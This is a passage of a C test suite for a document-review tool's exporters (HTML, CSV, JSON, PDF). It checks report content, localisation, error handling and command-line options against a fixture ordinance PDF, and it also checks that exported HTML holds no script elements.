                              fields[0], fields[1], fields[2], fields[3], fields[4], fields[5], fields[6],
                              fields[7], cm_anchor_get_page (anchor), cm_anchor_get_start (anchor),
                              cm_anchor_get_end (anchor), fields[8], fields[9], fields[10], rect_text->str,
                              replies->len, reply_text->str);
      for (guint j = 0; j < G_N_ELEMENTS (fields); j++)
        g_free (fields[j]);
    }
  for (guint i = 0; i < g_list_model_get_n_items (verdicts); i++)
    {
      g_autoptr(CmVerdict) v = g_list_model_get_item (verdicts, i);
      g_autofree char *modified = cm_timestamp_format (cm_verdict_get_modified (v));
      g_autofree char *item = hex (cm_verdict_get_item_id (v));
      g_autofree char *level = hex (cm_assessment_to_string (cm_verdict_get_assessment (v)));
      g_autofree char *author = hex (cm_verdict_get_author (v));
      g_autofree char *when = hex (modified);
      g_autofree char *rationale = hex (cm_verdict_get_rationale (v));

      g_string_append_printf (out, "verdict %s %s %s %s %s\n", item, level, author, when, rationale);
    }
  for (guint i = 0; i < tombstones->len; i++)
    {
      CmTombstone *t = g_ptr_array_index (tombstones, i);
      g_autofree char *modified = cm_timestamp_format (t->modified);
      g_autofree char *id = hex (t->id);
      g_autofree char *author = hex (t->author);
      g_autofree char *when = hex (modified);

      g_string_append_printf (out, "tombstone %s %s %s\n", id, author, when);
    }
  return g_string_free (out, FALSE);
}

static char *
run_python (const char *script,
            const char *path,
            int        *status)
{
  g_autofree char *python = g_find_program_in_path ("python3");
  g_autoptr(GError) error = NULL;
  g_autofree char *err = NULL;
  char *out = NULL;
  const char *argv[] = { python, "-c", script, path, NULL };

  if (python == NULL)
    return NULL;
  g_spawn_sync (NULL, (char **) argv, NULL, G_SPAWN_DEFAULT, NULL, NULL, &out, &err, status, &error);
  g_assert_no_error (error);
  if (*status != 0)
    g_test_message ("python3: %s", err);
  return out;
}

static void
test_json_structure (void)
{
  g_auto(Fixture) fixture = { 0 };
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(GError) error = NULL;
  g_autofree char *dir = cm_test_tmpdir_new ();
  g_autofree char *path = g_build_filename (dir, "review.json", NULL);
  g_autofree char *expected = NULL;
  g_autofree char *dump = NULL;
  int status = -1;

  fixture_init (&fixture);
  bytes = export_to_bytes ("json", fixture.review, fixture.checklist, fixture.document);
  g_file_set_contents (path, g_bytes_get_data (bytes, NULL), (gssize) g_bytes_get_size (bytes), &error);
  g_assert_no_error (error);

  dump = run_python (json_reader, path, &status);
  if (dump == NULL)
    {
      g_test_skip ("python3 is not installed: the JSON export was not parsed");
      cm_test_tmpdir_free (g_steal_pointer (&dir));
      return;
    }
  g_assert_cmpint (status, ==, 0);
  expected = expected_json_dump (&fixture);
  g_assert_cmpstr (dump, ==, expected);
  cm_test_tmpdir_free (g_steal_pointer (&dir));
}

/* PDF ----------------------------------------------------------------------- */

/* Line breaking moves spaces around; comparing without any whitespace makes
 * the check about the words, not the typesetting. */
static char *
strip_spaces (const char *text)
{
  GString *out = g_string_new (NULL);

  for (const char *p = text; *p != '\0'; p = g_utf8_next_char (p))
    {
      gunichar c = g_utf8_get_char (p);

      if (!g_unichar_isspace (c))
        g_string_append_unichar (out, c);
    }
  return g_string_free (out, FALSE);
}

static void
test_pdf_text (void)
{
  g_auto(Fixture) fixture = { 0 };
  g_autoptr(GBytes) bytes = NULL;
  g_autoptr(GError) error = NULL;
  g_autoptr(PopplerDocument) pdf = NULL;
  g_autoptr(GString) all = g_string_new (NULL);
  g_autofree char *text = NULL;
  g_autofree char *metadata_title = NULL;
  GPtrArray *items;
  int n_pages;

  fixture_init (&fixture);
  bytes = export_to_bytes ("pdf", fixture.review, fixture.checklist, fixture.document);
  pdf = poppler_document_new_from_bytes (bytes, NULL, &error);
  g_assert_no_error (error);
  n_pages = poppler_document_get_n_pages (pdf);
  g_assert_cmpint (n_pages, >, 0);
  metadata_title = poppler_document_get_title (pdf);
  g_assert_cmpstr (metadata_title, ==, expected_title (&fixture));

  for (int i = 0; i < n_pages; i++)
    {
      g_autoptr(PopplerPage) page = poppler_document_get_page (pdf, i);
      g_autofree char *page_text = poppler_page_get_text (page);
      g_autofree char *number = g_strdup_printf ("Page %d", i + 1);

      g_assert_nonnull (strstr (page_text, number));
      g_string_append (all, page_text);
    }
  text = strip_spaces (all->str);

  items = cm_checklist_get_items (fixture.checklist);
  for (guint i = 0; i < items->len; i++)
    {
      g_autofree char *title = strip_spaces (cm_checklist_item_get_title (g_ptr_array_index (items, i)));
      g_assert_nonnull (strstr (text, title));
    }
  for (guint i = 0; i < G_N_ELEMENTS (specs); i++)
    {
      g_autofree char *quote = strip_spaces (specs[i].quote);

      g_assert_nonnull (strstr (text, quote));
      if (specs[i].note != NULL)
        {
          g_autofree char *note = strip_spaces (specs[i].note);
          g_assert_nonnull (strstr (text, note));
        }
    }
  /* Text the fast path hands to Pango: a word wider than the line, right-to-
   * left scripts. Hyphens Pango adds where it breaks a word are dropped. */
  {
    g_autoptr(GString) unhyphenated = g_string_new (text);
    g_autofree char *url = strip_spaces ("https://example.org/"
                                         "aaaaaaaaaabbbbbbbbbbccccccccccddddddddddeeeeeeeeeeffffffffffgggggggggghhhhhhhhhh"
                                         "iiiiiiiiiijjjjjjjjjjkkkkkkkkkkllllllllllmmmmmmmmmmnnnnnnnnnnoooooooooopppppppppp");

    g_string_replace (unhyphenated, "\u2010", "", 0);
    g_string_replace (unhyphenated, "-", "", 0);
    g_assert_nonnull (strstr (unhyphenated->str, url));
    /* poppler reads right-to-left runs back in its own order and spacing:
     * the letters must be there, between their neighbours. */
    {
      const char *hebrew = strstr (text, "theHebrew");
      const char *arabic = hebrew ? strstr (hebrew, "andArabic") : NULL;
      g_autofree char *between = hebrew && arabic ? g_strndup (hebrew, (gsize) (arabic - hebrew)) : NULL;

      g_assert_nonnull (between);
      for (const char * const *letter = (const char * const[]) { "ש", "ל", "ו", "ם", "ע", NULL }; *letter; letter++)
        g_assert_nonnull (strstr (between, *letter));
      g_assert_nonnull (strstr (arabic, "\xd9"));   /* Arabic letters are U+0600..U+06FF */
    }
  }

  /* The long note, flowed over page breaks (footers come in between),
   * comes back whole and in order. */
  {
    const char *position = text;

    for (guint i = 0; i < LONG_NOTE_WORDS; i++)
      {
        g_autofree char *word = g_strdup_printf ("w%04u", i);
        const char *found = strstr (position, word);

        g_assert_nonnull (found);
        position = found + strlen (word);
      }
  }
  {
    g_autofree char *rationale = strip_spaces (RATIONALE_HOSTILE);
    g_autofree char *sha = strip_spaces (cm_document_get_sha256 (fixture.document));
    g_autofree char *bare = strip_spaces ("No evidence: no clause of the document is tagged with this item.");

    g_assert_nonnull (strstr (text, rationale));
    g_assert_nonnull (strstr (text, sha));
    g_assert_nonnull (strstr (text, bare));
    g_assert_nonnull (strstr (text, "Verdicts"));
  }
}

/* Robustness ----------------------------------------------------------------- */

/* A stream that fails after a few bytes, like a full disk. */
#define CM_TYPE_FAILING_STREAM (cm_failing_stream_get_type ())
G_DECLARE_FINAL_TYPE (CmFailingStream, cm_failing_stream, CM, FAILING_STREAM, GOutputStream)

struct _CmFailingStream
{
  GOutputStream parent_instance;
  gsize         budget;
};

G_DEFINE_FINAL_TYPE (CmFailingStream, cm_failing_stream, G_TYPE_OUTPUT_STREAM)

static gssize
cm_failing_stream_write (GOutputStream  *stream,
                         const void     *buffer,
                         gsize           count,
                         GCancellable   *cancellable,
                         GError        **error)
{
  CmFailingStream *self = CM_FAILING_STREAM (stream);

  if (self->budget == 0)
    {
      g_set_error_literal (error, G_IO_ERROR, G_IO_ERROR_NO_SPACE, "No space left on device");
      return -1;
    }
  count = MIN (count, self->budget);
  self->budget -= count;
  return (gssize) count;
}

static void
cm_failing_stream_class_init (CmFailingStreamClass *klass)
{
  G_OUTPUT_STREAM_CLASS (klass)->write_fn = cm_failing_stream_write;
}

static void
cm_failing_stream_init (CmFailingStream *self)
{
  self->budget = 100;
}

static void
test_write_error (void)
{
  static const char * const ids[] = { "html", "csv", "json", "pdf" };
  g_auto(Fixture) fixture = { 0 };

  fixture_init (&fixture);
  for (guint i = 0; i < G_N_ELEMENTS (ids); i++)
    {
      g_autoptr(CmExporter) exporter = get_exporter (ids[i]);
      g_autoptr(GOutputStream) stream = g_object_new (CM_TYPE_FAILING_STREAM, NULL);
      g_autoptr(GError) error = NULL;

      g_assert_false (cm_exporter_export (exporter, fixture.review, fixture.checklist, fixture.document,
                                          stream, NULL, &error));
      g_assert_error (error, G_IO_ERROR, G_IO_ERROR_NO_SPACE);
    }
}

/* Without a checklist (a review read by a tool that has none), nothing is
 * lost: every annotation is listed as not tied to a known item. */
static void
test_no_checklist (void)
{
  static const char * const ids[] = { "csv", "json", "pdf" };
  g_auto(Fixture) fixture = { 0 };
  g_autoptr(GBytes) html = NULL;
  htmlDocPtr doc;
  xmlXPathContextPtr context;

  fixture_init (&fixture);
  html = export_to_bytes ("html", fixture.review, NULL, fixture.document);
  doc = parse_html (html);
  context = xmlXPathNewContext (doc);
  g_assert_cmpint (html_count (context, "//section[@id='unfiled']//li[starts-with(@id,'annotation-')]"), ==,
                   (int) cm_review_get_n_annotations (fixture.review));
  g_assert_cmpint (html_count (context, "//section[@id='summary']"), ==, 0);
  xmlXPathFreeContext (context);
  xmlFreeDoc (doc);

  for (guint i = 0; i < G_N_ELEMENTS (ids); i++)
    {
      g_autoptr(GBytes) bytes = export_to_bytes (ids[i], fixture.review, NULL, fixture.document);

      g_assert_cmpuint (g_bytes_get_size (bytes), >, 0);
    }
}

/* A cancelled export stops with G_IO_ERROR_CANCELLED (the window's Cancel). */
static void
test_cancelled (void)
{
  static const char * const ids[] = { "html", "csv", "json", "pdf" };
  g_auto(Fixture) fixture = { 0 };
  g_autoptr(GCancellable) cancellable = g_cancellable_new ();

  fixture_init (&fixture);
  g_cancellable_cancel (cancellable);
  for (guint i = 0; i < G_N_ELEMENTS (ids); i++)
    {
      g_autoptr(CmExporter) exporter = get_exporter (ids[i]);
      g_autoptr(GOutputStream) stream = g_memory_output_stream_new_resizable ();
      g_autoptr(GError) error = NULL;

      g_assert_false (cm_exporter_export (exporter, fixture.review, fixture.checklist, fixture.document,
                                          stream, cancellable, &error));
      g_assert_error (error, G_IO_ERROR, G_IO_ERROR_CANCELLED);
    }
}

static void
test_empty_review (void)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(CmChecklist) checklist = cm_checklist_new_default (&error);
  g_autoptr(CmReview) review = cm_review_new ();
  g_autoptr(GBytes) csv = NULL;
  g_autoptr(GBytes) html = NULL;
  g_autoptr(GBytes) pdf = NULL;
  g_autoptr(GBytes) json = NULL;
  g_autoptr(GPtrArray) records = NULL;
  g_autoptr(PopplerDocument) document = NULL;
  htmlDocPtr doc;
  xmlXPathContextPtr context;

  g_assert_no_error (error);
  /* No document either: exporters must not need the PDF. */
  csv = export_to_bytes ("csv", review, checklist, NULL);
  records = parse_csv (g_bytes_get_data (csv, NULL), g_bytes_get_size (csv));
  g_assert_nonnull (records);
  g_assert_cmpuint (records->len, ==, 1);

  html = export_to_bytes ("html", review, checklist, NULL);
  doc = parse_html (html);
  context = xmlXPathNewContext (doc);
  g_assert_cmpint (html_count (context, "//p[contains(@class,'no-evidence')]"), ==,
                   (int) cm_checklist_get_n_items (checklist));
  xmlXPathFreeContext (context);
  xmlFreeDoc (doc);

  json = export_to_bytes ("json", review, checklist, NULL);
  g_assert_nonnull (g_strstr_len (g_bytes_get_data (json, NULL), (gssize) g_bytes_get_size (json),
                                  "\"annotations\":[]"));

  pdf = export_to_bytes ("pdf", review, checklist, NULL);
  document = poppler_document_new_from_bytes (pdf, NULL, &error);
  g_assert_no_error (error);
  g_assert_cmpint (poppler_document_get_n_pages (document), >, 0);
}

/* The command line ------------------------------------------------------------ */

static void
test_cli_export (void)
{
  static const char * const formats[] = { "html", "csv", "json", "pdf" };
  g_autofree char *source = cm_test_fixture_path ("chicago-plain.pdf");
  g_autofree char *dir = cm_test_tmpdir_new ();
  g_autofree char *pdf = cm_test_copy_file (source, dir, "ordinance.pdf");
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  int status;

  status = cm_test_run_cli (&out, &err, "tag", pdf, "--item", "detain.judicial-warrant",
                            "--assessment", "partial", "--quote", "The vitality of the City of Chicago",
                            "--note", NOTE_HOSTILE, "--author", "Ruiz, Ana", NULL);
  g_assert_cmpint (status, ==, 0);

  for (guint i = 0; i < G_N_ELEMENTS (formats); i++)
    {
      g_autofree char *name = g_strdup_printf ("report.%s", formats[i]);
      g_autofree char *target = g_build_filename (dir, name, NULL);
      g_autofree char *contents = NULL;
      g_autofree char *note = normalise_newlines (NOTE_HOSTILE);
      gsize length = 0;

      g_clear_pointer (&out, g_free);
      g_clear_pointer (&err, g_free);
      status = cm_test_run_cli (&out, &err, "export", pdf, "--format", formats[i], "-o", target, NULL);
      g_assert_cmpstr (err, ==, "");
      g_assert_cmpint (status, ==, 0);
      g_assert_true (g_file_get_contents (target, &contents, &length, NULL));
      g_assert_cmpuint (length, >, 0);
      if (g_str_equal (formats[i], "csv"))
        {
          g_autoptr(GPtrArray) records = parse_csv (contents, length);

          g_assert_nonnull (records);
          g_assert_cmpuint (records->len, ==, 2);
          g_assert_cmpstr (((char **) records->pdata[1])[7], ==, NOTE_HOSTILE);
          g_assert_cmpstr (((char **) records->pdata[1])[2], ==, "detain.judicial-warrant");

          /* "-o -" is standard output, the same bytes. */
          g_clear_pointer (&out, g_free);
          g_clear_pointer (&err, g_free);
          status = cm_test_run_cli (&out, &err, "export", pdf, "--format", "csv", "-o", "-", NULL);
          g_assert_cmpint (status, ==, 0);
          g_assert_cmpstr (out, ==, contents);
          g_assert_false (g_file_test ("-", G_FILE_TEST_EXISTS));
        }
      else if (g_str_equal (formats[i], "html"))
        {
          g_autoptr(GBytes) bytes = g_bytes_new (contents, length);
          htmlDocPtr doc = parse_html (bytes);
          xmlXPathContextPtr context = xmlXPathNewContext (doc);
          g_autofree char *shown = html_string (context, "//p[contains(@class,'note')]");

          g_assert_cmpstr (shown, ==, note);
          g_assert_cmpint (html_count (context, "//script"), ==, 0);
          xmlXPathFreeContext (context);
          xmlFreeDoc (doc);
        }
      else if (g_str_equal (formats[i], "pdf"))
        g_assert_true (g_str_has_prefix (contents, "%PDF-"));
    }

  /* --checklist is honoured: the bundled checklist under another title. */
  {
    g_autofree char *bundled = g_build_filename (g_getenv ("CLAUSEMARK_SOURCE_ROOT"), "data", "checklists",
                                                 "sanctuary.xml", NULL);
    g_autofree char *custom = g_build_filename (dir, "custom.xml", NULL);
    g_autofree char *missing = g_build_filename (dir, "no-such-checklist.xml", NULL);
    g_autofree char *target = g_build_filename (dir, "custom.html", NULL);
    g_autofree char *contents = NULL;
    g_autoptr(GString) xml = NULL;
    g_autoptr(GBytes) bytes = NULL;
    gsize length = 0;
    htmlDocPtr doc;
    xmlXPathContextPtr context;

    g_assert_true (g_file_get_contents (bundled, &contents, &length, NULL));
    xml = g_string_new_len (contents, (gssize) length);
    g_assert_cmpuint (g_string_replace (xml, "<title>Clausemark sanctuary review checklist (v1)</title>",
                                        "<title>Custom council checklist</title>", 1), ==, 1);
    g_assert_true (g_file_set_contents (custom, xml->str, (gssize) xml->len, NULL));

    g_clear_pointer (&err, g_free);
    status = cm_test_run_cli (&out, &err, "export", pdf, "--format", "html", "-o", target,
                              "--checklist", custom, NULL);
    g_assert_cmpstr (err, ==, "");
    g_assert_cmpint (status, ==, 0);
    g_clear_pointer (&contents, g_free);
    g_assert_true (g_file_get_contents (target, &contents, &length, NULL));
    bytes = g_bytes_new (contents, length);
    doc = parse_html (bytes);
    context = xmlXPathNewContext (doc);
    {
      g_autofree char *title = html_string (context, "//head/title");
      g_assert_nonnull (strstr (title, "Custom council checklist"));
    }
    xmlXPathFreeContext (context);
    xmlFreeDoc (doc);

    g_clear_pointer (&err, g_free);
    status = cm_test_run_cli (&out, &err, "export", pdf, "--format", "html", "-o", target,
                              "--checklist", missing, NULL);
    g_assert_cmpint (status, ==, 2);
  }
  cm_test_tmpdir_free (g_steal_pointer (&dir));
}

static void
restore_env (const char *name,
             const char *value)
{
  if (value != NULL)
    g_setenv (name, value, TRUE);
  else
    g_unsetenv (name);
}

/* Exported in Spanish, the report speaks Spanish throughout, the
 * checklist's words included; the CSV keeps the checklist file's words,
 * for the tools that read it. */
static void
test_cli_export_in_spanish (void)
{
  g_autofree char *source = cm_test_fixture_path ("chicago-plain.pdf");
  g_autofree char *dir = cm_test_tmpdir_new ();
  g_autofree char *pdf = cm_test_copy_file (source, dir, "ordinance.pdf");
  g_autofree char *html_path = g_build_filename (dir, "report.html", NULL);
  g_autofree char *csv_path = g_build_filename (dir, "report.csv", NULL);
  g_autofree char *html = NULL;
  g_autofree char *csv = NULL;
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  g_autofree char *language = g_strdup (g_getenv ("LANGUAGE"));
  g_autofree char *lc_all = g_strdup (g_getenv ("LC_ALL"));
  g_autoptr(CmChecklist) checklist = cm_checklist_new_default (NULL);
  CmChecklistItem *item = cm_checklist_lookup_item (checklist, "detain.judicial-warrant");
  const char *english = cm_checklist_item_get_title (item);

  g_assert_cmpint (cm_test_run_cli (&out, &err, "tag", pdf, "--item", "detain.judicial-warrant",
                                    "--assessment", "partial", "--quote", "The vitality of the City of Chicago",
                                    NULL), ==, 0);
  g_setenv ("LANGUAGE", "es", TRUE);
  g_setenv ("LC_ALL", "C.UTF-8", TRUE);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (cm_test_run_cli (&out, &err, "export", pdf, "--format", "html", "-o", html_path, NULL), ==, 0);
  g_clear_pointer (&err, g_free);
  g_assert_cmpint (cm_test_run_cli (&out, &err, "export", pdf, "--format", "csv", "-o", csv_path, NULL), ==, 0);
  restore_env ("LANGUAGE", language);
  restore_env ("LC_ALL", lc_all);

  g_assert_true (g_file_get_contents (html_path, &html, NULL, NULL));
  g_assert_true (g_file_get_contents (csv_path, &csv, NULL, NULL));
  /* The report's own words and the item's, both in Spanish. */
  g_assert_nonnull (strstr (html, "Parcial"));
  g_assert_null (strstr (html, english));
  g_assert_nonnull (strstr (html, "Orden judicial obligatoria"));
  g_assert_nonnull (strstr (html, "<html lang=\"es\">"));
  g_assert_nonnull (strstr (html, "versión 1"));
  g_assert_nonnull (strstr (csv, english));
  cm_test_tmpdir_free (g_steal_pointer (&dir));
}

static void
test_cli_export_errors (void)
{
  g_autofree char *source = cm_test_fixture_path ("chicago-plain.pdf");
  g_autofree char *dir = cm_test_tmpdir_new ();
  g_autofree char *pdf = cm_test_copy_file (source, dir, "ordinance.pdf");
  g_autofree char *target = g_build_filename (dir, "keep.html", NULL);
  g_autofree char *not_pdf = g_build_filename (dir, "notes.pdf", NULL);
  g_autofree char *missing = g_build_filename (dir, "missing.pdf", NULL);
  g_autofree char *nowhere = g_build_filename (dir, "no-such-folder", "out.html", NULL);
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  g_autofree char *kept = NULL;
  int status;

  g_assert_true (g_file_set_contents (target, "previous export", -1, NULL));
  g_assert_true (g_file_set_contents (not_pdf, "just text, not a PDF", -1, NULL));

  /* Unknown format: usage error naming the formats there are. */
  status = cm_test_run_cli (&out, &err, "export", pdf, "--format", "docx", "-o", target, NULL);
  g_assert_cmpint (status, ==, 1);
  g_assert_nonnull (strstr (err, "docx"));
  for (const char * const *id = (const char * const[]) { "csv", "html", "json", "pdf", NULL }; *id != NULL; id++)
    g_assert_nonnull (strstr (err, *id));
  g_assert_true (g_str_has_suffix (err, "\n"));
  g_assert_true (strchr (err, '\n') == err + strlen (err) - 1);

  /* Missing --format or -o. */
  g_clear_pointer (&err, g_free);
  status = cm_test_run_cli (&out, &err, "export", pdf, "-o", target, NULL);
  g_assert_cmpint (status, ==, 1);
  g_clear_pointer (&err, g_free);
  status = cm_test_run_cli (&out, &err, "export", pdf, "--format", "html", NULL);
  g_assert_cmpint (status, ==, 1);

  /* Unreadable input: exit 2, one line naming the file, OUT untouched. */
  g_clear_pointer (&err, g_free);
  status = cm_test_run_cli (&out, &err, "export", not_pdf, "--format", "html", "-o", target, NULL);
  g_assert_cmpint (status, ==, 2);
  g_assert_nonnull (strstr (err, "notes.pdf"));
  g_clear_pointer (&err, g_free);
  status = cm_test_run_cli (&out, &err, "export", missing, "--format", "html", "-o", target, NULL);
  g_assert_cmpint (status, ==, 2);
  g_assert_nonnull (strstr (err, "missing.pdf"));
  g_assert_true (g_file_get_contents (target, &kept, NULL, NULL));
  g_assert_cmpstr (kept, ==, "previous export");

  /* An output folder that does not exist. */
  g_clear_pointer (&err, g_free);
  status = cm_test_run_cli (&out, &err, "export", pdf, "--format", "html", "-o", nowhere, NULL);
  g_assert_cmpint (status, ==, 2);
  g_assert_nonnull (strstr (err, "out.html"));

  /* And a successful export replaces the old file whole. */
  g_clear_pointer (&err, g_free);
  g_clear_pointer (&kept, g_free);
  status = cm_test_run_cli (&out, &err, "export", pdf, "--format", "html", "-o", target, NULL);
  g_assert_cmpint (status, ==, 0);
  g_assert_true (g_file_get_contents (target, &kept, NULL, NULL));
  g_assert_true (g_str_has_prefix (kept, "<!DOCTYPE html>"));
  g_assert_true (g_str_has_suffix (kept, "</html>\n"));

  cm_test_tmpdir_free (g_steal_pointer (&dir));
}

/* Exporting against another version of the PDF re-anchors first, says so on
 * stderr, and the export carries the outcome, not stale positions. */
static void
test_cli_export_amended (void)
{
  g_autofree char *source = cm_test_fixture_path ("chicago-plain.pdf");
  g_autofree char *amended_source = cm_test_fixture_path ("chicago-columns.pdf");
  g_autofree char *dir = cm_test_tmpdir_new ();
  g_autofree char *pdf = cm_test_copy_file (source, dir, "ordinance.pdf");
  g_autofree char *amended = cm_test_copy_file (amended_source, dir, "amended.pdf");
  g_autofree char *sidecar = g_build_filename (dir, "ordinance.clausemark.xml", NULL);
  g_autofree char *target = g_build_filename (dir, "amended.json", NULL);
  g_autofree char *contents = NULL;
  g_autofree char *out = NULL;
  g_autofree char *err = NULL;
  int status;

  status = cm_test_run_cli (&out, &err, "tag", pdf, "--item", "detain.judicial-warrant",
                            "--assessment", "partial", "--quote", "The vitality of the City of Chicago", NULL);
  g_assert_cmpint (status, ==, 0);
  g_clear_pointer (&err, g_free);
  status = cm_test_run_cli (&out, &err, "export", amended, "--sidecar", sidecar, "--format", "json",
                            "-o", target, NULL);
  g_assert_cmpint (status, ==, 0);
  g_assert_nonnull (strstr (err, "amended.pdf"));
  g_assert_nonnull (strstr (err, "differs"));
  g_assert_true (g_file_get_contents (target, &contents, NULL, NULL));
  g_assert_null (strstr (contents, "\"state\":\"unresolved\""));
  g_assert_nonnull (strstr (contents, "\"exact\":\"The vitality of the City of Chicago\""));
  cm_test_tmpdir_free (g_steal_pointer (&dir));
}

int
main (int    argc,
      char **argv)
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/export/plugins/listed", test_plugins_listed);
  g_test_add_func ("/export/html/content", test_html_content);
  g_test_add_func ("/export/cli/in-spanish", test_cli_export_in_spanish);
  g_test_add_func ("/export/csv/parser-is-strict", test_csv_parser_is_strict);
  g_test_add_func ("/export/csv/round-trip", test_csv_round_trip);
  g_test_add_func ("/export/csv/formula-injection", test_csv_formula_injection);
  g_test_add_func ("/export/annotated-pdf/dates-in-contents", test_annotated_pdf_dates);
  g_test_add_func ("/export/json/structure", test_json_structure);
  g_test_add_func ("/export/pdf/text", test_pdf_text);
  g_test_add_func ("/export/write-error", test_write_error);
  g_test_add_func ("/export/empty-review", test_empty_review);
  g_test_add_func ("/export/cancelled", test_cancelled);
  g_test_add_func ("/export/no-checklist", test_no_checklist);
  g_test_add_func ("/export/cli/formats", test_cli_export);
  g_test_add_func ("/export/cli/errors", test_cli_export_errors);
  g_test_add_func ("/export/cli/amended-pdf", test_cli_export_amended);

  return g_test_run ();
}
